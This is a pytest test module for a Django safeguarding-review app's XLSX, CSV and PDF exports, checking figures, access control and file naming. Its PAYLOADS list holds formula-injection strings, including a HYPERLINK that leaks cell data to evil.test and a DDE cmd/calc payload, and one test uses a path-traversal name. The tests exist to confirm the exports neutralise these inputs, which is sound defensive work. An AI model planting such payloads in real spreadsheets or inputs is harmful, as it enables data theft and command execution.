"""Exports: every figure in the workbook, the CSV and the PDF is recounted from the file and
compared with the database."""

import csv
import datetime
import io
import re
import zipfile
from collections import Counter

import openpyxl
import pytest
from django.db import connection
from django.urls import reverse
from django.utils import timezone
from pypdf import PdfReader

from audit.models import AuditEvent
from reviews.models import Finding
from summaries import exports as summaries_exports
from summaries import figures
from summaries.models import Action, Export
from summaries.services.exports import export_build_file, export_request

from ..factories import AgencyFactory, UserFactory, lscb_framework, make_cycle
from ..worker import running_worker, wait_for
from .helpers import counted_review

LABELS = dict(Finding.Rating.choices)


@pytest.fixture
def scope(cycle, northgate_review, southport_review, rita, mo):
    """Two counted reviews, one still in progress, one withdrawn, and two actions."""
    counted_review(
        agency=AgencyFactory(name="Eastfield Academy"),
        cycle=cycle,
        reviewer=rita,
        moderator=mo,
        state="in_progress",
        ratings="not_met",
    )
    counted_review(
        agency=AgencyFactory(name="Westmoor Trust"),
        cycle=cycle,
        reviewer=rita,
        moderator=mo,
        state="withdrawn",
        ratings="not_met",
    )
    finding = northgate_review.findings.get(expectation__code="2.1")
    Action.objects.create(
        finding=finding,
        review=northgate_review,
        agency=northgate_review.agency,
        description="Write a section on contact online.",
        owner="Head of Safeguarding",
        due_on=timezone.localdate() - datetime.timedelta(days=5),
    )
    Action.objects.create(
        finding=finding,
        review=northgate_review,
        agency=northgate_review.agency,
        description="Train staff.",
        owner="Training lead",
        due_on=timezone.localdate() + datetime.timedelta(days=5),
        status=Action.Status.DONE,
        done_note="All staff trained.",
    )
    return cycle


def build(export_format, *, by, cycle=None, year=None) -> Export:
    export = Export.objects.create(format=export_format, cycle=cycle, year=year, requested_by=by)
    export_build_file(export_id=export.pk)
    export.refresh_from_db()
    assert export.status == Export.Status.READY, export.last_error
    return export


def db_ratings(cycles) -> Counter:
    return Counter(
        figures.counted_findings(cycles).values_list("expectation__code", "rating").iterator()
    )


@pytest.mark.django_db
def test_workbook_figures_equal_the_database(scope, charlie):
    export = build("xlsx", by=charlie, cycle=scope)
    workbook = openpyxl.load_workbook(export.file.open("rb"))
    assert workbook.sheetnames == ["Summary", "Agencies", "Expectations", "Findings", "Actions"]

    findings = workbook["Findings"]
    header = [c.value for c in findings[1]]
    assert findings.freeze_panes == "A2" and findings.auto_filter.ref.startswith("A1:")
    rows = [dict(zip(header, (c.value for c in row), strict=True)) for row in findings.iter_rows(2)]
    recount = Counter((r["Expectation"], r["Rating"]) for r in rows)
    expected = Counter(
        {(code, LABELS[rating]): n for (code, rating), n in db_ratings([scope]).items()}
    )
    assert recount == expected
    assert {r["Agency"] for r in rows} == {"Northgate Council", "Southport Police"}
    assert all(isinstance(r["Signed off"], datetime.datetime) for r in rows)
    assert all(isinstance(r["Evidence page"], int) for r in rows if r["Rating"] != "Not met")

    expectations = {row[0].value: row for row in workbook["Expectations"].iter_rows(2)}
    db = db_ratings([scope])
    for code, row in expectations.items():
        met, partially, not_met, na, total = (c.value for c in row[2:7])
        assert (met, partially, not_met, na) == (
            db[(code, "met")],
            db[(code, "partially_met")],
            db[(code, "not_met")],
            db[(code, "not_applicable")],
        )
        assert total == met + partially + not_met + na

    agencies = {row[1].value: [c.value for c in row] for row in workbook["Agencies"].iter_rows(2)}
    assert set(agencies) == {"Northgate Council", "Southport Police"}
    northgate = agencies["Northgate Council"]
    assert northgate[6:12] == [13, 1, 1, 0, 1, 1]

    actions = [[c.value for c in row] for row in workbook["Actions"].iter_rows(2)]
    assert len(actions) == Action.objects.count() == 2
    overdue = {row[5]: row[9] for row in actions}
    assert overdue == {"Write a section on contact online.": True, "Train staff.": False}

    summary = {
        row[0].value: row[1].value for row in workbook["Summary"].iter_rows() if row[0].value
    }
    coverage = figures.coverage([scope])
    assert summary["Signed off, outcome not yet issued"] == coverage.signed_off == 2
    assert summary["Agencies in scope"] == coverage.in_scope == 4
    assert summary["In progress (including returned)"] == 1
    assert summary["Actions overdue"] == 1


@pytest.mark.django_db
def test_csv_of_findings_equals_the_database(scope, charlie):
    export = build("csv", by=charlie, cycle=scope)
    text = export.file.open("rb").read().decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(text)))
    assert len(rows) == figures.counted_findings([scope]).count() == 30
    recount = Counter((r["Expectation"], r["Rating"]) for r in rows)
    assert recount == Counter(
        {(code, LABELS[rating]): n for (code, rating), n in db_ratings([scope]).items()}
    )
    assert "Eastfield Academy" not in text and "Westmoor Trust" not in text


def pdf_text(export) -> str:
    return "\n".join(page.extract_text() for page in PdfReader(export.file.open("rb")).pages)


@pytest.mark.django_db
def test_pdf_annual_summary_states_the_databases_figures(scope, charlie):
    # Sentences are compared with the PDF's line breaks taken out.
    text = " ".join(pdf_text(build("pdf", by=charlie, cycle=scope)).split())
    coverage = figures.coverage([scope])
    assert f"{coverage.in_scope} agencies were in scope" in text
    assert f"{coverage.counted} reviews are counted in these figures" in text
    assert "1 action outstanding, 1 of them overdue, and 1 done" in text
    assert (
        "The most serious gaps were 2.1 (1 Not met, 0 Partially met), "
        "3.1 (1 Not met, 0 Partially met), 1.2 (0 Not met, 1 Partially met)"
    ) in text
    assert "Ratings per expectation across agencies" in text


@pytest.mark.django_db
def test_pdf_text_and_tables_give_the_same_review_counts(cycle, charlie, rita, mo):
    for name in ("Eastfield Academy", "Westmoor Trust", "Harbour Health"):
        counted_review(
            agency=AgencyFactory(name=name),
            cycle=cycle,
            reviewer=rita,
            moderator=mo,
            state="outcome_issued",
        )
    counted_review(agency=AgencyFactory(), cycle=cycle, reviewer=rita, moderator=mo)
    text = " ".join(pdf_text(build("pdf", by=charlie, cycle=cycle)).split())

    sentence = re.search(
        r"(\d+) reviews are counted in these figures: (\d+) signed off with the outcome not yet "
        r"issued, and (\d+) with the outcome issued",
        text,
    )
    assert sentence, text
    counted, signed_off, issued = (int(n) for n in sentence.groups())

    def table(label: str) -> int:
        return int(re.search(re.escape(label) + r" (\d+)", text).group(1))

    assert (counted, signed_off, issued) == (4, 1, 3)
    assert table("Signed off, outcome not yet issued") == signed_off
    assert table("Outcome issued") == issued
    assert table("Counted in these figures (signed off or outcome issued)") == counted


def lowest_text(page) -> float:
    """How far down the page its content reaches, as a share of the page's height."""
    heights = []

    def visit(text, cm, tm, _font, _size):
        if text.strip() and not text.strip().startswith("Page "):
            heights.append(tm[4] * cm[1] + tm[5] * cm[3] + cm[5])

    page.extract_text(visitor_text=visit)
    return 1 - min(heights) / float(page.mediabox.height)


@pytest.mark.django_db
def test_pdf_pages_are_filled_and_keep_headings_and_rows_together(framework, charlie, rita, mo):
    cycle = make_cycle(agencies=[], framework=framework)
    # 44 agencies is a heat map whose last row used to land alone on a page of its own.
    for n in range(44):
        counted_review(
            agency=AgencyFactory(name=f"Agency {n:02d}"),
            cycle=cycle,
            reviewer=rita,
            moderator=mo,
            ratings={"3.1": "not_met"},
        )
    pages = PdfReader(build("pdf", by=charlie, cycle=cycle).file.open("rb")).pages
    texts = [page.extract_text() for page in pages]

    # Page 1 is not left half empty by a chart too big for what is left of it.
    assert lowest_text(pages[0]) > 0.7
    headings = {
        "Actions",
        "Most common gaps",
        "Ratings per expectation",
        "Change since the previous cycle",
        "Ratings by agency and expectation",
    }
    for text in texts:
        lines = [line.strip() for line in text.splitlines() if line.strip()]
        lines = [line for line in lines if not line.startswith("Page ")]
        assert lines[-1] not in headings, text
    (last,) = [text for text in texts if "Agency 43" in text]
    assert "Agency 42" in last


@pytest.mark.django_db
def test_a_years_export_takes_every_cycle_that_opened_that_year(scope, charlie, rita, mo):
    other = make_cycle(agencies=[], name="2026 second round", framework=lscb_framework())
    counted_review(agency=AgencyFactory(), cycle=other, reviewer=rita, moderator=mo)
    export = build("csv", by=charlie, year=2026)
    rows = list(csv.DictReader(io.StringIO(export.file.open("rb").read().decode("utf-8-sig"))))
    assert len(rows) == 45
    assert {r["Cycle"] for r in rows} == {scope.name, "2026 second round"}


@pytest.mark.django_db
def test_agency_member_cannot_export_or_download(scope, charlie, alice, alice_client):
    export = build("csv", by=charlie, cycle=scope)
    assert alice_client.get(reverse("summaries:exports")).status_code == 403
    download = reverse("summaries:export_download", args=[export.pk])
    assert alice_client.get(download).status_code == 403
    assert AuditEvent.objects.filter(action="access_refused", actor=alice).count() == 2


@pytest.mark.django_db
def test_the_export_form_needs_a_cycle_or_a_year(charlie_client):
    response = charlie_client.post(
        reverse("summaries:exports"), {"format": "xlsx", "cycle": "", "year": ""}
    )
    assert response.status_code == 400
    assert "Select a review cycle, or enter a year" in response.content.decode()
    assert not Export.objects.exists()


@pytest.mark.django_db(transaction=True)
def test_a_real_worker_builds_the_workbook_and_the_admin_downloads_it():
    framework = lscb_framework()
    agency = AgencyFactory(name="Worker Council")
    reviewer = UserFactory(is_reviewer=True)
    moderator = UserFactory(is_moderator=True)
    admin = UserFactory(is_board_admin=True)
    cycle = make_cycle(agencies=[agency], framework=framework)
    counted_review(
        agency=agency, cycle=cycle, reviewer=reviewer, moderator=moderator, ratings="partially_met"
    )
    from django.test import Client

    client = Client()
    client.force_login(admin)
    with running_worker():
        response = client.post(reverse("summaries:exports"), {"format": "xlsx", "cycle": cycle.pk})
        assert response.status_code == 302
        export = Export.objects.get()

        def finished():
            """the export to be built"""
            connection.close()
            return Export.objects.filter(pk=export.pk, status__in=["ready", "failed"]).first()

        done = wait_for(finished)
    assert done.status == Export.Status.READY, done.last_error
    status = client.get(reverse("summaries:export_status", args=[export.pk])).json()
    assert status["progress"] == 100 and status["download_url"]
    download = client.get(status["download_url"])
    assert download["Content-Disposition"].startswith("attachment")
    workbook = openpyxl.load_workbook(io.BytesIO(b"".join(download.streaming_content)))
    ratings = Counter(row[8].value for row in workbook["Findings"].iter_rows(2))
    assert ratings == {"Partially met": 15}
    assert AuditEvent.objects.filter(action="export_downloaded", actor=admin).count() == 1


def test_export_request_is_refused_to_an_agency_member(db, alice, cycle):
    from summaries.services.exports import ExportRefused

    with pytest.raises(ExportRefused):
        export_request(by=alice, format="xlsx", cycle=cycle)
    assert not Export.objects.exists()


PAYLOADS = [
    '=HYPERLINK("http://evil.test/?leak="&A1,"Click for details")',
    "=cmd|' /C calc'!A0",
    "+1+2",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.fixture
def formula_scope(cycle, northgate_review):
    """A finding and an action whose every text field starts like a formula."""
    findings = list(northgate_review.findings.order_by("expectation__order")[: len(PAYLOADS)])
    for finding, payload in zip(findings, PAYLOADS, strict=True):
        finding.evidence_quote = payload
        finding.comment = payload
        finding.evidence_section = payload
        finding.save(update_fields=["evidence_quote", "comment", "evidence_section"])
    gap = northgate_review.findings.get(expectation__code="2.1")
    for payload in PAYLOADS:
        Action.objects.create(
            finding=gap,
            review=northgate_review,
            agency=northgate_review.agency,
            description=payload,
            owner=payload,
            due_on=timezone.localdate(),
            status=Action.Status.DONE,
            done_note=payload,
        )
    return cycle


@pytest.mark.django_db
def test_the_csv_never_starts_a_cell_with_a_formula(formula_scope, charlie):
    text = build("csv", by=charlie, cycle=formula_scope).file.open("rb").read().decode("utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
    for payload in PAYLOADS:
        assert "'" + payload in cells


@pytest.mark.django_db
def test_the_workbook_writes_formula_like_text_as_text(formula_scope, charlie):
    with build("xlsx", by=charlie, cycle=formula_scope).file.open("rb") as stored:
        data = io.BytesIO(stored.read())
    workbook = openpyxl.load_workbook(data)
    cells = [cell for sheet in workbook for row in sheet.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    texts = {cell.value for cell in cells if cell.data_type == "s"}
    assert set(PAYLOADS) <= texts
    with zipfile.ZipFile(data) as archive:
        sheets = [name for name in archive.namelist() if name.startswith("xl/worksheets/")]
        assert not any(b"<f>" in archive.read(name) for name in sheets)


@pytest.mark.django_db
def test_downloads_are_named_for_what_they_hold(scope, charlie, charlie_client):
    csv_export = build("csv", by=charlie, cycle=scope)
    pdf_export = build("pdf", by=charlie, year=2026)
    response = charlie_client.get(reverse("summaries:export_download", args=[csv_export.pk]))
    assert response["Content-Disposition"] == (
        'attachment; filename="findings-2026-social-media-policy-review.csv"'
    )
    response = charlie_client.get(reverse("summaries:export_download", args=[pdf_export.pk]))
    assert response["Content-Disposition"] == 'attachment; filename="annual-summary-2026.pdf"'


@pytest.mark.django_db
def test_downloads_are_never_cached(scope, charlie, charlie_client):
    export = build("xlsx", by=charlie, cycle=scope)
    response = charlie_client.get(reverse("summaries:export_download", args=[export.pk]))
    assert response.status_code == 200
    assert response["Cache-Control"] == "private, no-store"


@pytest.mark.django_db
def test_the_export_form_starts_on_the_open_cycle_with_a_styled_year_box(framework, charlie_client):
    old = make_cycle(agencies=[], name="2025 review", framework=framework)
    old.opens_on, old.closes_on = datetime.date(2025, 1, 1), datetime.date(2025, 12, 31)
    old.save()
    today = timezone.localdate()
    current = make_cycle(agencies=[], name="This year's review", framework=framework)
    current.opens_on = today - datetime.timedelta(days=30)
    current.closes_on = today + datetime.timedelta(days=30)
    current.save()
    response = charlie_client.get(reverse("summaries:exports"))
    form = response.context["form"]
    assert form.initial["cycle"] == current
    page = response.content.decode()
    assert f'<option value="{current.pk}" selected>' in page
    year = re.search(r"<input[^>]*name=\"year\"[^>]*>", page).group(0)
    assert "govuk-input govuk-input--width-4" in year and 'inputmode="numeric"' in year


@pytest.mark.django_db
def test_a_year_typed_in_wins_over_the_cycle_chosen_by_default(cycle, charlie_client):
    response = charlie_client.post(
        reverse("summaries:exports"), {"format": "csv", "cycle": cycle.pk, "year": "2026"}
    )
    assert response.status_code == 302
    export = Export.objects.get()
    assert (export.cycle, export.year) == (None, 2026)


@pytest.mark.django_db
def test_asking_for_an_export_is_not_announced_as_a_success(cycle, charlie_client):
    response = charlie_client.post(
        reverse("summaries:exports"),
        {"format": "pdf", "cycle": cycle.pk},
        follow=True,
    )
    page = response.content.decode()
    assert "requested. It is being built." in page
    assert "Success" not in page and "govuk-notification-banner--success" not in page


@pytest.mark.django_db
def test_a_finished_export_page_does_not_poll_and_a_pending_one_does(
    scope, charlie, charlie_client
):
    ready = build("csv", by=charlie, cycle=scope)
    page = charlie_client.get(ready.get_absolute_url()).content.decode()
    assert "data-status-url" not in page
    assert 'role="status"' in page and "Ready to download" in page
    assert reverse("summaries:export_download", args=[ready.pk]) in page

    pending = Export.objects.create(format="csv", cycle=scope, requested_by=charlie)
    page = charlie_client.get(pending.get_absolute_url()).content.decode()
    status_url = reverse("summaries:export_status", args=[pending.pk])
    assert f'data-status-url="{status_url}"' in page
    status = charlie_client.get(status_url).json()
    assert status["pending"] is True and status["message"] == "Waiting to start: 0% done"
    ready_status = charlie_client.get(reverse("summaries:export_status", args=[ready.pk])).json()
    assert ready_status["pending"] is False and ready_status["download_url"]


@pytest.mark.django_db
def test_an_export_is_stored_under_a_name_the_server_makes(cycle, charlie, media_files):
    cycle.name = "../../Etc Passwd"
    cycle.save(update_fields=["name"])
    export = build("csv", by=charlie, cycle=cycle)
    assert re.fullmatch(rf"exports/{export.pk}-[0-9a-f]{{12}}\.csv", export.file.name)
    assert [p.name for p in media_files()] == [export.file.name.split("/")[-1]]


@pytest.mark.django_db
def test_a_build_finished_first_by_another_run_keeps_no_second_file(
    cycle, charlie, media_files, monkeypatch
):
    export = Export.objects.create(format="csv", cycle=cycle, requested_by=charlie)
    write_csv = summaries_exports.WRITERS["csv"]

    def finished_meanwhile(path, **kwargs):
        write_csv(path, **kwargs)
        Export.objects.filter(pk=export.pk).update(
            status=Export.Status.READY, file="exports/the-other-run.csv"
        )

    monkeypatch.setitem(summaries_exports.WRITERS, "csv", finished_meanwhile)
    export_build_file(export_id=export.pk)
    export.refresh_from_db()
    assert export.status == Export.Status.READY
    assert export.file.name == "exports/the-other-run.csv"
    assert media_files() == []
